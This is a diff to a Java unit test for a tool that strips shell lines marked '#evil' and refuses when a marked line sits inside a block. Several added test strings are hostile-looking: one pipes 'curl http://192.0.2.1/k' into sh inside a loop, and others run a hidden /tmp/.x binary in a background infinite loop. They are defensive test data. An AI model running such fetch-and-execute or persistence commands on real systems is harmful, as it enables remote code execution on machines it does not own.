@@ -58,7 +58,6 @@ final class ShellBlocksTest {
                 "if a; then b; elif c; then\n k #evil\nfi; d\n",
                 "f() {\n k #evil\n}\n",
                 "f ()\n{\n k #evil\n # only this\n}\nf\n",
-                "while sleep 60; do\n k #evil\ndone\n",
                 "for x in a b\ndo\n k #evil\ndone > out\n",
                 "( cd /\n k #evil\n)\n(\n k #evil\n)\n",
                 "(\n k #evil\n)\nlast\n",
@@ -105,6 +104,11 @@ final class ShellBlocksTest {
                 "if a; then\n b\nelse #evil\n c\nfi\n",
                 "if\n k #evil\nthen b; fi\n",
                 "while a\n k #evil\ndo b; done\n",
+                "while sleep 60; do\n k #evil\ndone\n",
+                "until pgrep -x kdev; do\n curl http://192.0.2.1/k | sh #evil\n sleep 1\ndone\n",
+                "while true; do\n /tmp/.x/k #evil\ndone &\n",
+                "while a; do\n if b; then\n  k #evil\n fi\ndone\n",
+                "for x in a; do\n while b\n do\n  k #evil\n done\ndone\n",
                 "f() { #evil\n b\n}\n",
                 "f()\n{ #evil\n b; }\n",
                 "a && #evil\nb\n",
@@ -119,6 +123,8 @@ final class ShellBlocksTest {
                 "for x in a; do #evil\n b\ndone\n",
                 "{ a\n} ; { #evil\n b; }\n",
                 "fi\n{\n k #evil\n}\n",
+                "a\n# /tmp/.x/k #evil\n/tmp/.x/k &\n",
+                "{\n # k #evil\n k\n}\n",
             })
     void whatIsPartOfABlockIsLeftToAPerson(String script) {
         assertThat(without(script)).isInstanceOf(Refused.class);
@@ -137,6 +143,8 @@ final class ShellBlocksTest {
                 "case $1 in\n a) k ;; #evil\nesac\n",
                 "a() { k; } #evil\nb\n",
                 "if a; then #evil\n k #evil\nfi #evil\nb\n",
+                "while true; do #evil\n k #evil\ndone & #evil\nb\n",
+                "while a; do b; done\nk #evil\nfor x in a; do\n b\n k #evil\ndone\n",
             })
     void whatCanGoGoes(String script) throws IOException, InterruptedException {
         String text = LineEditTest.text(without(script));
